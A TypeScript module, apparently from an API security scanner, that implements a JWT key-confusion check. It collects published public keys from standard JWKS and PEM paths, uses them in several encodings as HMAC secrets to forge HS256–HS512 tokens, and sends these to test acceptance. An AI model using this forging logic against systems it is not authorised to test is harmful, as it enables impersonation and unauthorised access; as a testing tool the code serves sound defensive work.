import { createPublicKey, type KeyObject } from "node:crypto";
import { isRecord } from "../openapi/raw.ts";
import type { Stage } from "../stage/stage.ts";
import { type HmacKey, readJwt, signJwt } from "../tokens/jwt.ts";
import { tokenOf } from "../tokens/token-of.ts";
import type { Check } from "../verdict/check.ts";
import { unknown } from "../verdict/finding.ts";
import { sendForged } from "./forged-tokens.ts";

/** Check 66: a key that everybody may know signs nothing. */
export const keyConfusionCheck: Check = {
  id: "66",
  promise: "A public key does not do as a secret.",
  severity: "critical",
  group: "tokens",
  traits: [],
  run: async function* (stage) {
    const about = { actor: stage.intruder.name };
    const jwt = readJwt(tokenOf(stage.owner));
    if (!jwt) {
      yield unknown(about, "The tokens are no JWTs.");
      return;
    }
    const keys = await publishedKeys(stage);
    const secrets = keys.flatMap(secretsFrom);
    const tokens = secrets.flatMap((key) =>
      HASHES.map(([alg, hash]) => signJwt({ ...jwt.header, alg }, jwt.claims, { key, hash })),
    );
    yield tokens.length > 0 ? await sendForged(stage, tokens) : unknown(about, "No public key is published.");
  },
};

const HASHES = [
  ["HS256", "sha256"],
  ["HS384", "sha384"],
  ["HS512", "sha512"],
] as const;

/** Where public keys are published (RFC 8615, OpenID Connect Discovery). */
const PLACES: readonly string[] = [
  ..."/.well-known/jwks.json /jwks.json /.well-known/jwks /jwks /oauth2/jwks /auth/jwks.json".split(" "),
  ..."/api/jwks.json /public-key /public_key.pem /auth/public-key".split(" "),
];

interface Published {
  readonly key: KeyObject;
  /** As it was published. */
  readonly text: string;
}

async function publishedKeys({ nobody, send }: Stage): Promise<readonly Published[]> {
  const found: Published[] = [];
  for (const path of PLACES) {
    const { response } = await send(nobody, { method: "GET", path });
    if (response?.status === 200) found.push(...keysIn(response.body, response.json));
  }
  return found;
}

function keysIn(body: string, json: unknown): readonly Published[] {
  const set = isRecord(json) ? json["keys"] : undefined;
  const each = Array.isArray(set) ? set : [json];
  const fromSet = each.filter(isRecord).flatMap((jwk) => {
    const text = JSON.stringify(jwk);
    return published(text, () => createPublicKey({ key: jwk as never, format: "jwk" }));
  });
  const pems = isRecord(json) ? Object.values(json).filter((value) => typeof value === "string") : [body];
  return [...fromSet, ...pems.flatMap((pem) => published(String(pem), () => createPublicKey(String(pem))))];
}

function published(text: string, read: () => KeyObject): readonly Published[] {
  try {
    return [{ key: read(), text }];
  } catch {
    return [];
  }
}

/** The forms in which a library may take the key for a secret. */
function secretsFrom({ key, text }: Published): readonly HmacKey["key"][] {
  const pem = String(key.export({ type: "spki", format: "pem" }));
  const jwk = key.export({ format: "jwk" });
  const der = key.export({ type: "spki", format: "der" });
  const older = key.asymmetricKeyType === "rsa" ? String(key.export({ type: "pkcs1", format: "pem" })) : undefined;
  const pems = [pem, pem.trimEnd(), pem.replaceAll("\n", "\r\n"), ...(older ? [older, older.trimEnd()] : [])];
  return [text, ...pems, der, JSON.stringify(jwk), ...(jwk.n === undefined ? [] : [jwk.n])];
}
